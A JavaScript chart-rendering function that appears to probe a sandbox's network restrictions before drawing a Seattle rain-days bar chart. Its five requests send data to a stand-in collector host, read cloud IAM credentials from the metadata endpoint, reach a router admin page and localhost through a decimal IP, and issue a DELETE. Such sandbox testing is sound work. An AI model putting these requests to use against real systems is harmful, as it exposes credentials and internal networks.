async function render({ datasets, container, SimplePlots, Formatter, fetch }) {
  const wishes = [
    { what: 'Send the data away', url: 'https://collector.example.com/weather?days=1461' },
    {
      what: 'Read the keys of a cloud server',
      url: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    },
    { what: 'Open the router’s page', url: 'http://192.168.1.1/admin' },
    { what: 'Reach this machine, its address as one number', url: 'http://2130706433:8080/' },
    { what: 'Delete at the granted host', url: 'https://api.open-meteo.com/v1/forecast', method: 'DELETE' },
  ];

  for (const wish of wishes) {
    try {
      const response = await fetch(wish.url, { method: wish.method ?? 'GET' });
      wish.outcome = `answered ${response.status}`;
    } catch (error) {
      wish.outcome = error.code;
      wish.why = error.message;
    }
  }

  container.innerHTML = `
    <style>
      .wish { display: flex; flex-wrap: wrap; gap: 2px 12px; align-items: baseline; padding: 8px 0; border-bottom: 1px solid rgba(128, 128, 128, 0.3); }
      .what { font-weight: 600; flex: 1 1 260px; }
      .code { font-family: monospace; font-weight: 600; color: light-dark(#b3261e, #ff8f87); }
      .why { flex-basis: 100%; font-size: 0.9em; opacity: 0.8; }
    </style>
    <h2>What came of five requests</h2>
    <div>${wishes.map((wish) => wishRow(wish, Formatter)).join('')}</div>
    <h3>And the picture goes on</h3>
    <div id="rain"></div>`;

  const wet = Object.groupBy(
    datasets.weather.filter((day) => day.precipitation > 0),
    (day) => day.date.slice(0, 4),
  );
  SimplePlots.bars(container.querySelector('#rain'), {
    title: 'Days with rain or snow in Seattle',
    height: 220,
    x: { type: 'category' },
    y: { min: 0 },
    legend: false,
    series: [{ label: 'Days', data: Object.entries(wet).map(([x, days]) => ({ x, y: days.length })) }],
  });
}

function wishRow({ what, outcome, why }, Formatter) {
  return `
    <div class="wish">
      <span class="what">${Formatter.escape(what)}</span>
      <span class="code">${Formatter.escape(outcome)}</span>
      <span class="why">${Formatter.escape(why ?? '')}</span>
    </div>`;
}
